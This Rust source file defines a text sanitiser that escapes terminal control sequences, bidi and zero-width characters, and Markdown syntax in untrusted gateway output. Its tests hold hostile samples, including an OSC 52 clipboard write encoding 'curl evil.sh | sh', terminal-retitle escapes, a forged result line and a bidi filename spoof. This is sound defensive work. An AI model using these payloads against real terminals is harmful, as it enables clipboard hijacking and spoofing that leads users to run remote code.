//! The one sanitiser for text gatewatch writes outside the TUI: `check`'s
//! human output, the Markdown report, notes written to files and lines on
//! stderr. Whatever a gateway, a registry or a file returned is data: a
//! control character, an escape sequence (which can retitle a terminal,
//! clear it or write the clipboard through OSC 52), a bidi override or a
//! zero-width character is shown as a visible escape (`\x1b`, `\u{202e}`),
//! never passed through, and a field can never start a new line of its own
//! (a forged `Result: OK`). The TUI cleans its own cells with
//! [`is_hidden`] (see `ui::util::clean_buffer`).

use std::borrow::Cow;
use std::fmt::Write as _;

/// Bidirectional formatting characters: they reorder what follows on screen.
pub fn is_bidi(c: char) -> bool {
    matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// Characters a reader cannot see or that change how the rest of the line
/// is shown: Unicode format characters (category Cf: zero-width space and
/// joiners, bidi controls, the byte-order mark, tag characters, …), the
/// line and paragraph separators, and the blank Hangul fillers.
pub fn is_hidden(c: char) -> bool {
    is_bidi(c)
        || matches!(
            c,
            '\u{00AD}'
                | '\u{034F}'
                | '\u{0600}'..='\u{0605}'
                | '\u{06DD}'
                | '\u{070F}'
                | '\u{0890}'..='\u{0891}'
                | '\u{08E2}'
                | '\u{115F}'..='\u{1160}'
                | '\u{17B4}'..='\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{200B}'..='\u{200D}'
                | '\u{2028}'..='\u{202E}'
                | '\u{2060}'..='\u{206F}'
                | '\u{3164}'
                | '\u{FEFF}'
                | '\u{FFA0}'
                | '\u{FFF9}'..='\u{FFFB}'
                | '\u{110BD}'
                | '\u{110CD}'
                | '\u{13430}'..='\u{1343F}'
                | '\u{1BCA0}'..='\u{1BCA3}'
                | '\u{1D173}'..='\u{1D17A}'
                | '\u{E0001}'
                | '\u{E0020}'..='\u{E007F}'
        )
}

/// Needs escaping in terminal or file output: C0 and C1 controls, DEL, and
/// the hidden characters above.
fn needs_escape(c: char) -> bool {
    c.is_control() || is_hidden(c)
}

fn escape_into(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c if u32::from(c) < 0x80 => {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

fn escape_where(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(|c| needs_escape(c) && !keep(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if needs_escape(c) && !keep(c) {
            escape_into(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One field on one line: every control, escape, bidi and zero-width
/// character shown as a visible escape, line breaks included.
pub fn line(s: &str) -> Cow<'_, str> {
    escape_where(s, |_| false)
}

/// Several lines (command output written to a file): line feeds kept,
/// everything else as in [`line`].
pub fn text(s: &str) -> Cow<'_, str> {
    escape_where(s, |c| c == '\n')
}

/// One field of Markdown: [`line`], then every character Markdown (and the
/// HTML it allows) would interpret escaped, so text from a gateway cannot
/// become a link, an image, emphasis, a table cell, HTML or an entity.
pub fn markdown(s: &str) -> String {
    let one = line(s);
    let mut out = String::with_capacity(one.len() + 8);
    for c in one.chars() {
        if matches!(c, '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '~' | '&' | '!' | '#') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a hostile gateway put in model names, versions and error texts.
    const CORPUS: [&str; 8] = [
        "\x1b]0;pwned title\x07",
        "\x1b[2J\x1b[H",
        "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
        "ok\nResult: OK (exit 0)",
        "\u{9b}31m C1 CSI",
        "admin\u{202e}fdp.exe",
        "zero\u{200b}width\u{feff}",
        "tag\u{e0041}chars",
    ];

    #[test]
    fn nothing_hostile_survives_a_line() {
        for s in CORPUS {
            let l = line(s);
            assert!(!l.chars().any(|c| c.is_control() || is_hidden(c)), "{l:?}");
            assert!(!l.contains('\n'), "{l:?}");
        }
        assert_eq!(line("\x1b]0;t\x07"), "\\x1b]0;t\\x07");
        assert_eq!(line("a\u{202e}b"), "a\\u{202e}b");
        assert_eq!(line("two\nlines"), "two\\nlines");
        // Ordinary text, including emoji and CJK, is untouched and not copied.
        for plain in ["gpt-4o-mini", "模型 🚀 ok", "sha256:ca8e7112 → drift"] {
            assert!(matches!(line(plain), Cow::Borrowed(_)), "{plain}");
        }
    }

    #[test]
    fn text_keeps_line_feeds_only() {
        assert_eq!(text("a\nb\r\n\x1b[31m"), "a\nb\\r\n\\x1b[31m");
    }

    #[test]
    fn markdown_cannot_inject_structure() {
        let m = markdown("[click](http://evil) ![x](y) <img src=x> | cell | *em* `code` &#x202e; \x1b[2J\nline");
        assert!(!m.contains('\x1b') && !m.contains('\n'), "{m}");
        // Every character Markdown interprets is escaped.
        let chars: Vec<char> = m.chars().collect();
        for (i, c) in chars.iter().enumerate() {
            if matches!(c, '[' | ']' | '<' | '>' | '|' | '*' | '`' | '&' | '!') {
                let escapes = chars[..i].iter().rev().take_while(|p| **p == '\\').count();
                assert!(escapes % 2 == 1, "unescaped {c} at {i} in {m}");
            }
        }
        assert_eq!(markdown("gpt-4o (sk-...)"), "gpt-4o (sk-...)");
    }
}
